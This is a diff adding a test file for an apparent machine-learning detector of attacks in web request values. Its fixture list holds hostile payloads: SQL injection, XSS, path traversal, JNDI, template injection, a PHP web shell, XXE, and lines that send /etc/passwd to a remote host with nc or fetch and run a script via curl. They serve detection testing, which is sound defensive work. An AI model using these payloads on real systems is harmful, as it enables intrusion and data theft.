@@ -1,0 +1,89 @@
+// SPDX-License-Identifier: Apache-2.0
+
+import { deepEqual, equal, ok } from 'node:assert/strict'
+import { hash } from 'node:crypto'
+import { readFileSync } from 'node:fs'
+import { test } from 'node:test'
+import fc from 'fast-check'
+import { InferenceSession, Tensor } from 'onnxruntime-node'
+import type { Value } from '../decode/values.ts'
+import { modelLimits } from '../limits.ts'
+import { createNgramReader } from './ngrams.ts'
+import { openModel } from './open-model.ts'
+import { readModel } from './weights.ts'
+
+const model = openModel()
+const value = (text: string, name = 'q'): Value => ({ source: 'ARGS_GET', name, text })
+const logitOf = (text: string): number => model.judge([value(text)]).logit
+/** Where 0.3 % of honest requests lie above. */
+const threshold = model.thresholds.find(({ falsePositives }) => falsePositives === 0.003)?.logit as number
+
+const attacks = [
+  "1'; DROP TABLE users; --",
+  "admin' or '1'='1",
+  '-1 union all select null,concat(user,0x3a,password) from mysql.user#',
+  '<img src=x onerror=alert(document.cookie)>',
+  '"><svg/onload=prompt(1)>',
+  '../../../../../../etc/passwd',
+  '..%c0%af..%c0%afwindows/win.ini',
+  ';cat /etc/passwd|nc 203.0.113.9 4444',
+  '$(curl http://203.0.113.9/x.sh|sh)',
+  `\${jndi:ldap://203.0.113.9/a}`,
+  "{{''.__class__.__mro__[1].__subclasses__()}}",
+  "<?php system($_GET['c']); ?>",
+  '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
+]
+const honest = [
+  "Conan O'Brien",
+  'Please select your union from the list and drop me a line where possible; 1 or 2 is fine.',
+  'Rock & roll -- the best of 1980 (50% off!)',
+  '<p>Our <strong>new</strong> shop: <a href="https://shop.example.org/?a=1&b=2">look</a></p>',
+  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
+  '/static/js/vendors~main.3f2a91bc.chunk.js',
+  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
+  'query Orders($id: ID!) { order(id: $id) { id total items { name } } }',
+  'const total = items.map((item) => item.price * 2)',
+]
+
+test('DET-1 attacks of every kind lie above the threshold, what people write below it', () => {
+  for (const text of attacks) ok(logitOf(text) > threshold, `${text}: ${logitOf(text)}`)
+  for (const text of honest) ok(logitOf(text) < threshold, `${text}: ${logitOf(text)}`)
+})
+
+test('DET-1 DET-3 the culprit among the values is named, with the n-grams that weighed most', () => {
+  const bad = value("x' union select password from users--", 'sort')
+  const { culprit, reasons } = model.judge([...honest.map((text) => value(text)), bad, value('3')])
+  equal(culprit, bad)
+  equal(reasons.length, modelLimits.reasonsMax)
+  for (const { ngram, weight } of reasons) ok(weight > 0 && ngram.length > 0)
+})
+
+test('DET-1 single words, numbers and tokens are not judged, nor is nothing', () => {
+  for (const values of [[], [value('')], [value('select')], [value('4f2c9a_B-7')]]) {
+    deepEqual(model.judge(values), { logit: Number.NEGATIVE_INFINITY, reasons: [] })
+  }
+})
+
+test('DET-1 an attack does not hide in much else', () => {
+  const much = 'We like the new kitchen, and the weather was good. '.repeat(40)
+  const attack = "' union select password from users where '1'='1"
+  ok(logitOf(much) < threshold)
+  for (const text of [`${attack} ${much}`, `${much} ${attack} ${much}`, `${much.repeat(20)} ${attack}`])
+    ok(logitOf(text) > threshold)
+})
+
+test('DET-1 ONNX Runtime says the same of the same file, to a millionth', async () => {
+  const file = readFileSync(new URL('../../../model/request.onnx', import.meta.url))
+  readModel(file, hash('sha256', file))
+  const session = await InferenceSession.create(file, { intraOpNumThreads: 1 })
+  const reader = createNgramReader()
+  const random = fc.sample(fc.string({ minLength: 1, maxLength: 40 }), { numRuns: 100, seed: 1 })
+  for (const text of [...attacks, ...honest, ...random]) {
+    if (reader.read(text) > 1) continue
+    const hashes = Uint32Array.from(reader.hashes.subarray(0, reader.segmentEnds[0]), (ngram) => ngram >>> 0)
+    const { logit, probability } = await session.run({ hashes: new Tensor('uint32', hashes, [hashes.length]) })
+    const ours = model.logitOf(text)
+    ok(Math.abs(ours - Number(logit?.data[0])) < 1e-6 * Math.max(1, Math.abs(ours)), text)
+    ok(Math.abs(1 / (1 + Math.exp(-ours)) - Number(probability?.data[0])) < 1e-6, text)
+  }
+})
